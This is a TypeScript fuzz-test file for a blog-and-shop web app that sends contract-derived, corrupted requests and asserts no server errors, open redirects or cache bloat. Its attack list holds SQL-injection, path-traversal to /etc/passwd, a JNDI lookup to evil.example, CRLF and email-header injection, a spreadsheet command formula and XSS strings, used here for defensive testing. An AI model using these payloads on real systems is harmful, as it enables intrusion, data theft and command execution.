import fc from 'fast-check'
import { expect, test } from 'vitest'
import { countRows } from '../../../test/count-rows.ts'
import { makeCategory, makePost, makeProduct, makeUser } from '../../../test/factories.ts'
import { expectSentence, maliciousTexts } from '../../../test/malicious-input.ts'
import { type RequestOptions, type TestApp, testApp } from '../../../test/test-app.ts'
import { testSite } from '../../../test/test-site.ts'
import { xssVectors } from '../../../test/xss-vectors.ts'
import { createSession } from '../accounts/auth/sessions.repo.ts'

/** `FUZZ_REQUESTS=100000` sends that many, other ones each time; FUZZ_SEED repeats them. */
const requests = Number(process.env.FUZZ_REQUESTS ?? 3000)
const seed = Number(process.env.FUZZ_SEED ?? (process.env.FUZZ_REQUESTS ? Date.now() % 2 ** 31 : 20_260_310))
/** A new session after so many requests: some of them end it. */
const SESSION = 20

const attacks = [
  ...maliciousTexts,
  ...xssVectors.slice(0, 12),
  "1' AND SLEEP(5)-- -",
  '1; select pg_sleep(5)--',
  "' UNION SELECT NULL,NULL,sqlite_version()--",
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is an attack as it stands
  '${jndi:ldap://evil.example/a}',
  '....//....//etc/passwd',
  '%2e%2e%2f%2e%2e%2fetc%2fpasswd',
  'file:///etc/passwd',
  '/media/../dewlight.db',
  '//evil.example',
  '/\\evil.example',
  'https://evil.example/%0d%0aSet-Cookie:a=b',
  'javascript:alert(1)',
  'a\r\nBcc: everyone@evil.example',
  '=cmd|"/c calc"!A0',
  'a'.repeat(5000),
]

type Schema = {
  type?: string
  enum?: unknown[]
  const?: unknown
  format?: string
  minLength?: number
  maxLength?: number
  minimum?: number
  maximum?: number
  items?: Schema
  minItems?: number
  properties?: Record<string, Schema>
  required?: string[]
  anyOf?: Schema[]
  oneOf?: Schema[]
}
type Operation = {
  parameters?: { name: string; in: 'path' | 'query' | 'header'; schema: Schema }[]
  requestBody?: { content: Record<string, { schema?: Schema }> }
}
type Route = { method: string; path: string; operation: Operation }

const junk: fc.Arbitrary<unknown> = fc.oneof(
  { arbitrary: fc.constantFrom<unknown>(...attacks), weight: 4 },
  fc.jsonValue({ maxDepth: 3 }),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.double(),
  fc.constantFrom<unknown>(null, [], {}, '', -1, 0, 2 ** 53, 1e308, true, [[[[]]]], { $ne: null }),
)

/** What fits a schema of the contract, as far as its description says. */
function fitting(schema: Schema): fc.Arbitrary<unknown> {
  if (schema.const !== undefined) return fc.constant(schema.const)
  if (schema.enum) return fc.constantFrom(...schema.enum)
  const choices = schema.anyOf ?? schema.oneOf
  if (choices) return fc.oneof(...choices.map(fitting))
  switch (schema.type) {
    case 'string': {
      if (schema.format === 'email') return fc.emailAddress()
      if (schema.format === 'date-time') return fc.date({ noInvalidDate: true }).map((date) => date.toISOString())
      const minLength = schema.minLength ?? 0
      return fc.oneof(
        fc.string({ unit: 'grapheme', minLength, maxLength: Math.min(schema.maxLength ?? 80, minLength + 80) }),
        fc.constantFrom('a-plain-word', '2026-02-03', '12.50', 'https://shop.example/a', 'all', 'newest'),
      )
    }
    case 'integer':
      return fc.oneof(
        fc.integer({ min: 1, max: 3 }),
        fc.integer({ min: schema.minimum ?? -5, max: Math.min(schema.maximum ?? 2 ** 31, 2 ** 31) }),
      )
    case 'number':
      return fc.double({ noNaN: true, min: schema.minimum ?? -1e6, max: schema.maximum ?? 1e6 })
    case 'boolean':
      return fc.boolean()
    case 'null':
      return fc.constant(null)
    case 'array':
      return fc.array(fitting(schema.items ?? {}), { minLength: schema.minItems ?? 0, maxLength: 4 })
    case 'object': {
      const fields = Object.entries(schema.properties ?? {}).map(([name, field]) => [name, fitting(field)] as const)
      return fc.record(Object.fromEntries(fields), { requiredKeys: (schema.required ?? []) as never[] })
    }
    default:
      return junk
  }
}

/** Mostly valid input; otherwise one field is malformed or missing, or there is an unknown field. */
function broken(schema: Schema): fc.Arbitrary<unknown> {
  const names = [...Object.keys(schema.properties ?? {}), '__proto__', 'constructor', 'unknown']
  const mutated = fc.tuple(fitting(schema), fc.constantFrom(...names), fc.option(junk)).map(([value, name, other]) => {
    if (typeof value !== 'object' || value === null || Array.isArray(value)) return other
    const { [name]: _, ...rest } = value as Record<string, unknown>
    return other === null ? rest : Object.defineProperty(rest, name, { value: other, enumerable: true })
  })
  return fc.oneof({ arbitrary: fitting(schema), weight: 3 }, { arbitrary: mutated, weight: 5 }, junk)
}

const asText = (value: unknown): string => (typeof value === 'string' ? value : String(JSON.stringify(value)))

function requestTo(route: Route): fc.Arbitrary<{ address: string; options: RequestOptions }> {
  const { parameters = [], requestBody } = route.operation
  const some = (schema: Schema) => fc.oneof({ arbitrary: fitting(schema), weight: 3 }, { arbitrary: junk, weight: 1 })
  const given = fc.record(
    Object.fromEntries(parameters.map(({ name, in: place, schema }) => [`${place} ${name}`, some(schema)])),
    {
      requiredKeys: parameters.filter(({ in: place }) => place === 'path').map(({ name }) => `path ${name}`) as never[],
    },
  )
  const [type, { schema = {} } = {}] = Object.entries(requestBody?.content ?? {})[0] ?? []
  const body = type === undefined ? fc.constant(undefined) : broken(schema)
  const wrongType = fc.option(
    fc.constantFrom('text/plain', 'application/x-www-form-urlencoded', 'multipart/form-data', ''),
    { freq: 12 },
  )
  return fc
    .tuple(given, body, fc.uint8Array({ maxLength: 300 }), wrongType)
    .map(([values, sent, bytes, contentType]) => {
      const entries = Object.entries(values as Record<string, unknown>).map(
        ([name, value]) => [name, asText(value).toWellFormed()] as const,
      )
      const of = (place: string) =>
        entries
          .filter(([name]) => name.startsWith(`${place} `))
          .map(([name, value]) => [name.slice(place.length + 1), value] as const)
      let address = `/api${route.path}`
      for (const [name, value] of of('path')) address = address.replace(`{${name}}`, () => encodeURIComponent(value))
      const query = new URLSearchParams(of('query').map(([name, value]) => [name, value])).toString()
      // What no header may hold never arrives.
      const headers = Object.fromEntries(of('header').filter(([, value]) => /^[\x20-\x7e]*$/.test(value)))
      if (contentType !== null) headers['content-type'] = contentType
      const options: RequestOptions = { method: route.method.toUpperCase(), headers }
      if (type === 'multipart/form-data' && contentType === null) {
        const form = new FormData()
        for (const [name, value] of Object.entries(schema.properties ?? {}))
          form.set(
            name,
            value.format === 'binary'
              ? new Blob([bytes as Uint8Array<ArrayBuffer>])
              : asText((sent as Record<string, unknown> | null)?.[name]),
          )
        return { address: query ? `${address}?${query}` : address, options: { ...options, body: form } }
      }
      if (type !== undefined) {
        if (contentType === null) headers['content-type'] = 'application/json'
        options.body = asText(JSON.stringify(sent))
      }
      return { address: query ? `${address}?${query}` : address, options }
    })
}

async function filled() {
  const app = await testApp()
  const category = await makeCategory(app.db)
  for (let i = 0; i < 3; i++) {
    await makePost(app.db, { category_id: category })
    await makeProduct(app.db)
  }
  const user = await makeUser(app.db)
  const signIn = async () => `session=${await createSession(app.db, user, new Date('2026-03-10T15:00:00.000Z'))}`
  const headers = { cookie: await signIn() }
  const { paths } = (await (await app.request('/api/openapi.json?operations=all', { headers })).json()) as {
    paths: Record<string, Record<string, Operation>>
  }
  const routes = Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]): Route => ({ method, path, operation })),
  )
  return { app, routes, signIn }
}

/** No fault of ours, and a refusal is a sentence that tells nothing. */
async function expectSound(response: Response, what: string): Promise<void> {
  expect(response.status, what).toBeLessThan(500)
  if (response.status >= 400) await expectSentence(response, what)
  else await response.arrayBuffer()
}

async function expectWhole({ db, request }: TestApp): Promise<void> {
  await countRows(db)
  expect((await request('/readyz')).status).toBe(200)
}

test('no request generated from the contract and then corrupted causes a 5xx', {
  timeout: 3_600_000,
}, async () => {
  const { app, routes, signIn } = await filled()
  const anything = fc.constantFrom(...routes).chain((route) => fc.tuple(requestTo(route), fc.nat(9)))
  let cookie = ''
  let count = 0
  const answered = new Map<number, number>()
  let written = 0
  const before = process.memoryUsage().rss
  await fc.assert(
    fc.asyncProperty(anything, async ([{ address, options }, stranger]) => {
      if (count++ % SESSION === 0) cookie = await signIn()
      const headers = { ...options.headers, ...(stranger > 1 ? { cookie } : {}) }
      const response = await app.request(address, { ...options, headers })
      answered.set(response.status, (answered.get(response.status) ?? 0) + 1)
      if (options.method !== 'GET' && response.ok) written += 1
      await expectSound(response, `${options.method} ${address}`)
    }),
    { numRuns: requests, seed, endOnFailure: true },
  )
  // It reached what lies behind the checks, too; how many rows it created depends on the order of the endpoints.
  expect(answered.get(200) ?? 0).toBeGreaterThan(requests / 20)
  expect(written).toBeGreaterThan(requests / 100)
  await expectWhole(app)
  await app.jobs.close()
  // In bytes; garbage included, so it bounds a leak of some kilobytes a request and no less.
  expect(process.memoryUsage().rss - before).toBeLessThan(400_000_000 + requests * 2000)
})

test('known attacks in every field of every body and in every parameter do nothing', { timeout: 600_000 }, async () => {
  const { app, routes, signIn } = await filled()
  let count = 0
  let cookie = ''
  for (const route of routes) {
    const { parameters = [], requestBody } = route.operation
    const schema = requestBody?.content['application/json']?.schema
    const fields = Object.keys(schema?.properties ?? {})
    const [right = {}] = schema ? fc.sample(fitting({ ...schema, required: fields }), { numRuns: 1, seed: 7 }) : []
    for (const [i, attack] of attacks.entries()) {
      // Each attack reaches some field of each route, and over the attacks each field is reached.
      const slots = [
        ...fields.map((name) => `body ${name}`),
        ...parameters.map(({ name, in: place }) => `${place} ${name}`),
      ]
      const slot = slots[i % Math.max(1, slots.length)]
      if (slot === undefined || slot.startsWith('header ')) continue
      if (count++ % SESSION === 0) cookie = await signIn()
      const encoded = encodeURIComponent(attack.toWellFormed())
      let address = `/api${route.path}`.replace(/\{(\w+)\}/g, (_, name) => (slot === `path ${name}` ? encoded : '1'))
      if (slot.startsWith('query ')) address += `?${slot.slice(6)}=${encoded}`
      const json = slot.startsWith('body ') ? { ...(right as object), [slot.slice(5)]: attack } : right
      const response = await app.request(address, {
        method: route.method.toUpperCase(),
        headers: { cookie },
        ...(schema ? { json } : {}),
      })
      await expectSound(response, `${route.method} ${address} ${slot} ${attack.slice(0, 60)}`)
    }
  }
  await expectWhole(app)
  await app.jobs.close()
})

test('the forms of the site take attacks as text, and lead nowhere else', { timeout: 60_000 }, async () => {
  const { app } = await filled()
  const fields = ['name', 'email', 'subject', 'message', 'username', 'password', 'token', 'step', 'code', 'website']
  for (const path of [
    '/contact',
    '/newsletter',
    '/newsletter/confirm',
    '/newsletter/unsubscribe',
    '/login',
    '/setup',
  ]) {
    for (const attack of attacks) {
      const body = new URLSearchParams(fields.map((name) => [name, attack.toWellFormed()])).toString()
      const response = await app.request(`${path}?redirect=${encodeURIComponent(attack.toWellFormed())}`, {
        method: 'POST',
        body,
        headers: { 'content-type': 'application/x-www-form-urlencoded' },
      })
      expect(response.status, `${path} ${attack}`).toBeLessThan(500)
      expect(response.headers.get('location') ?? '/', path).toMatch(/^\/(?![/\\])/)
    }
  }
  await expectWhole(app)
})

/** Addresses of the site below that are cached in one spelling at least. */
const paths = [
  ...['/', '/blog', '/shop', '/contact', '/newsletter', '/blog/a-post', '/blog/category/cleansing', '/blog/category/1'],
  ...['/api/posts', '/api/products', '/api/categories/cleansing', '/api/posts/category/1', '/api/site', '/feed.xml'],
]
const parameters = ['page', 'limit', 'category', 'featured', 'sent', 'subscribed', 'utm_source']
const known = ['1', '2', '3', 'true', 'mail', 'cleansing', 'Cleansers']

/** Another spelling of a path: any character may be percent-encoded, in either case. */
const spelling = (path: string) =>
  fc.tuple(fc.nat(path.length), fc.boolean(), fc.boolean()).map(([at, isEncoded, isLower]) => {
    const code = path.charCodeAt(at)
    if (!isEncoded || Number.isNaN(code) || path[at] === '/') return path
    const hex = code.toString(16)
    return `${path.slice(0, at)}%${isLower ? hex : hex.toUpperCase()}${path.slice(at + 1)}`
  })

test('made-up addresses and spellings fill neither the cache nor the memory', { timeout: 3_600_000 }, async () => {
  const { get, measure } = await testSite({
    rows: async (db) => {
      const category = await makeCategory(db, { slug: 'cleansing' })
      await makePost(db, { slug: 'a-post', category_id: category })
      await makeProduct(db, { category: 'Cleansers' })
    },
  })
  const number = fc
    .tuple(fc.constantFrom('', '0', '00', '+', ' '), fc.integer({ min: 1, max: 3 }))
    .map((all) => all.join(''))
  const value = fc.oneof(
    number,
    fc.constantFrom(...known, ...attacks.filter((attack) => attack.length < 200)),
    fc.string(),
  )
  const query = fc.array(fc.tuple(fc.constantFrom(...parameters), value), { maxLength: 3 })
  const made = fc.oneof(
    { arbitrary: fc.constantFrom(...paths).chain(spelling), weight: 4 },
    fc.webPath().map((path) => (path.startsWith('/') ? path : `/${path}`)),
  )
  const before = process.memoryUsage().rss
  await fc.assert(
    fc.asyncProperty(made, query, async (path, entries) => {
      const text = new URLSearchParams(entries.map(([name, each]) => [name, each.toWellFormed()])).toString()
      const response = await get(text ? `${path}?${text}` : path)
      await response.arrayBuffer()
      expect(response.status, `${path}?${text}`).toBeLessThan(500)
    }),
    { numRuns: Math.min(requests, 20_000), seed, endOnFailure: true },
  )
  // Some twenty pages, and the lists with the few values of `limit`, `page` and `category` that give rows.
  expect(await measure('dewlight_page_cache_pages')).toBeLessThan(60)
  expect(await measure('dewlight_page_cache_bytes')).toBeLessThan(20_000_000)
  expect(process.memoryUsage().rss - before).toBeLessThan(400_000_000 + requests * 2000)
})
